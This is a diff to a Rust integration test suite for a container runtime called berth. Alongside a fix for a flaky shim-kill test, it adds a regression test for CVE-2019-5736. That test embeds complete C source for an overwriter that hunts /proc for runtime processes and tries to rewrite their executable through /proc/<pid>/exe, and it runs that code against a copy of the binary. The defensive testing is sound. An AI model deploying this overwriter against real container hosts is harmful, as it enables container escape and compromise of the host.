@@ -8,7 +8,7 @@
 //! has no ptrace tool) and bind-mounted in read-only. Every test takes one lock: some count the
 //! machine's processes, mounts and cgroups.
 
-use berth_tests::{berth_bin, busybox_root, have, Berth, ChildGuard};
+use berth_tests::{berth_bin, busybox_root, have, ChildGuard};
 use std::os::unix::process::CommandExt;
 use std::path::{Path, PathBuf};
 use std::process::{Command, Stdio};
@@ -233,6 +233,12 @@ fn footprint(root: &Path) -> (usize, usize, usize) {
     (mounts, cgroups, shims_of(root).len())
 }
 
+/// The parent of `pid` (0 when gone).
+fn ppid(pid: i32) -> i32 {
+    let st = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
+    st.rfind(')').and_then(|i| st[i + 2..].split(' ').nth(1)).and_then(|v| v.parse().ok()).unwrap_or(0)
+}
+
 /// The pids of the shims serving `root`.
 fn shims_of(root: &Path) -> Vec<i32> {
     let r = root.to_string_lossy().into_owned();
@@ -295,6 +301,9 @@ fn run_fails_promptly_when_its_shim_dies() {
         };
         let Some(shim) = shim else { panic!("no shim appeared (iteration {i})") };
         std::thread::sleep(Duration::from_micros(delay_us));
+        // The shim itself, not a child it forked that still bears its command line.
+        let now = shims_of(b.root());
+        let shim = now.iter().copied().find(|p| !now.contains(&ppid(*p))).unwrap_or(shim);
         // SAFETY (test): a shim this test started.
         unsafe { libc::kill(shim, libc::SIGKILL) };
         let t = Instant::now();
@@ -309,9 +318,17 @@ fn run_fails_promptly_when_its_shim_dies() {
             early += 1;
             assert_eq!(st.code(), Some(125), "iteration {i}");
         }
-        wait_until("the container's processes to go", Duration::from_secs(3), || {
-            processes(&["sleep", &marker]).is_empty()
-        });
+        let t = Instant::now();
+        while !processes(&["sleep", &marker]).is_empty() {
+            if t.elapsed() > Duration::from_secs(3) {
+                let left: Vec<String> = processes(&["sleep", &marker])
+                    .iter()
+                    .map(|p| std::fs::read_to_string(format!("/proc/{p}/status")).unwrap_or_default())
+                    .collect();
+                panic!("iteration {i} (CLI {st}): the container outlived its shim:\n{}", left.join("\n"));
+            }
+            std::thread::sleep(Duration::from_millis(20));
+        }
     }
     eprintln!("{early} of 8 kills landed before the container started");
     let ids = b.ok(&["ps", "-aq"]);
@@ -399,7 +416,122 @@ fn nix_read(fd: &std::os::fd::OwnedFd, buf: &mut [u8]) -> usize {
     }
 }
 
-#[allow(dead_code)]
-fn _keep(_: &Berth, _: ChildGuard, _: PathBuf) -> PathBuf {
-    berth_bin()
+/// The overwriter (CVE-2019-5736): for `argv[1]` seconds, takes an O_PATH handle on the
+/// executable of every berth process it can see (comm "berth", or "exe" for one exec'd through
+/// /proc/self/exe), and keeps trying to reopen each for writing (which works once no process
+/// runs that file any more); on success it overwrites the start of the file. Logs to `argv[2]`.
+const OVERWRITER_C: &str = r#"
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <time.h>
+#include <unistd.h>
+
+int main(int argc, char **argv) {
+    int secs = atoi(argv[1]);
+    FILE *log = fopen(argv[2], "a");
+    if (!log) return 1;
+    setvbuf(log, NULL, _IONBF, 0);
+    int fds[256], held = 0, seen[4096] = {0};
+    time_t end = time(NULL) + secs;
+    fprintf(log, "START\n");
+    while (time(NULL) < end) {
+        DIR *d = opendir("/proc");
+        struct dirent *e;
+        while (d && (e = readdir(d))) {
+            int pid = atoi(e->d_name);
+            if (pid <= 1 || pid >= 4096 || pid == getpid() || seen[pid]) continue;
+            char p[64], comm[64] = {0};
+            snprintf(p, sizeof p, "/proc/%d/comm", pid);
+            int fd = open(p, O_RDONLY);
+            if (fd < 0) continue;
+            if (read(fd, comm, sizeof comm - 1) < 0) comm[0] = 0;
+            close(fd);
+            if (strncmp(comm, "berth", 5) && strncmp(comm, "exe", 3)) continue;
+            snprintf(p, sizeof p, "/proc/%d/exe", pid);
+            int x = open(p, O_PATH);
+            if (x >= 0 && held < 256) { fds[held++] = x; seen[pid] = 1; fprintf(log, "HANDLE %d %s", pid, comm); }
+        }
+        if (d) closedir(d);
+        for (int i = 0; i < held; i++) {
+            char p[64];
+            snprintf(p, sizeof p, "/proc/self/fd/%d", fds[i]);
+            int w = open(p, O_WRONLY);
+            if (w >= 0) {
+                ssize_t n = pwrite(w, "PWNED", 5, 0);
+                fprintf(log, "HIT-WROTE %zd\n", n);
+                close(w);
+            }
+        }
+        usleep(20000);
+    }
+    fprintf(log, "DONE held=%d\n", held);
+    return 0;
+}
+"#;
+
+/// Item 4: a container cannot overwrite the berth binary through /proc/<pid>/exe of a berth
+/// process (an exec child, or berth itself exec'd in the container as `/proc/self/exe`), even
+/// once its shim is gone. Attempted against a copy of the binary, which must stay unchanged.
+#[test]
+fn binary_cannot_be_overwritten_from_a_container() {
+    let _g = serial();
+    let Some(b) = busybox_root() else { return };
+    let tools = tempfile::tempdir().unwrap();
+    let Some(_) = compile(tools.path(), "ow", OVERWRITER_C) else { return };
+    let bin = tempfile::tempdir().unwrap();
+    let copy = bin.path().join("berth");
+    std::fs::copy(berth_bin(), &copy).unwrap();
+    let original = std::fs::read(&copy).unwrap();
+    let berth = |args: &[&str]| {
+        let mut c = Command::new(&copy);
+        c.arg("--root").arg(b.root()).args(args).stdin(Stdio::null());
+        c
+    };
+    let ok = |args: &[&str]| {
+        let o = berth(args).output().unwrap();
+        assert!(o.status.success(), "{args:?}: {}", String::from_utf8_lossy(&o.stderr));
+        String::from_utf8_lossy(&o.stdout).into_owned()
+    };
+    let vol = format!("{}:/t:ro", tools.path().display());
+    ok(&["run", "-d", "--name", "ow", "--network", "none", "-v", &vol, "busybox", "sleep", "1000"]);
+    let shim = shims_of(b.root())[0];
+    // The shim (the init's parent) runs from a sealed view: not writable even by host root.
+    // (Writing back the ELF magic's first byte: harmless should it succeed.) EROFS from the
+    // overlay view, EPERM from a sealed memfd; never ETXTBSY, the host file's "busy".
+    let w = std::fs::OpenOptions::new()
+        .write(true)
+        .open(format!("/proc/{shim}/exe"))
+        .and_then(|f| std::os::unix::fs::FileExt::write_at(&f, b"\x7f", 0));
+    let errno = w.expect_err("the shim's executable is writable").raw_os_error();
+    assert!(matches!(errno, Some(libc::EROFS) | Some(libc::EPERM)), "the shim runs the host's binary: {errno:?}");
+    ok(&["exec", "-d", "ow", "/t/ow", "8", "/tmp/log"]);
+    wait_until("the overwriter to start", Duration::from_secs(10), || {
+        berth(&["exec", "ow", "cat", "/tmp/log"]).output().unwrap().stdout.starts_with(b"START")
+    });
+    for _ in 0..20 {
+        assert_eq!(status_within(berth(&["exec", "ow", "true"]), Duration::from_secs(20)).code(), Some(0));
+    }
+    // berth itself inside the container, through /proc/self/exe (refused now; on main it ran
+    // the host's binary, a process the overwriter can take a handle on).
+    let _ = berth(&["exec", "-d", "ow", "/proc/self/exe", "registry", "serve", "--addr", "127.0.0.1:0"]).output();
+    std::thread::sleep(Duration::from_millis(500));
+    let log = String::from_utf8_lossy(&berth(&["exec", "ow", "cat", "/tmp/log"]).output().unwrap().stdout).into_owned();
+    // Then every process of the copy that would keep the file busy goes: the shim, and berth
+    // exec'd in the container if it ran.
+    for pid in processes(&["/proc/self/exe", "registry", "serve", "--addr", "127.0.0.1:0"]) {
+        // SAFETY (test): a process this test started.
+        unsafe { libc::kill(pid, libc::SIGKILL) };
+    }
+    // SAFETY (test): the shim this test started.
+    unsafe { libc::kill(shim, libc::SIGKILL) };
+    std::thread::sleep(Duration::from_secs(3));
+    eprintln!("overwriter log before the shim died:\n{log}");
+    assert!(std::fs::read(&copy).unwrap() == original, "the berth binary (a copy) was overwritten from the container");
+    assert!(!log.contains("HIT-WROTE"), "{log}");
+    let _ = berth(&["rm", "-f", "ow"]).output();
 }
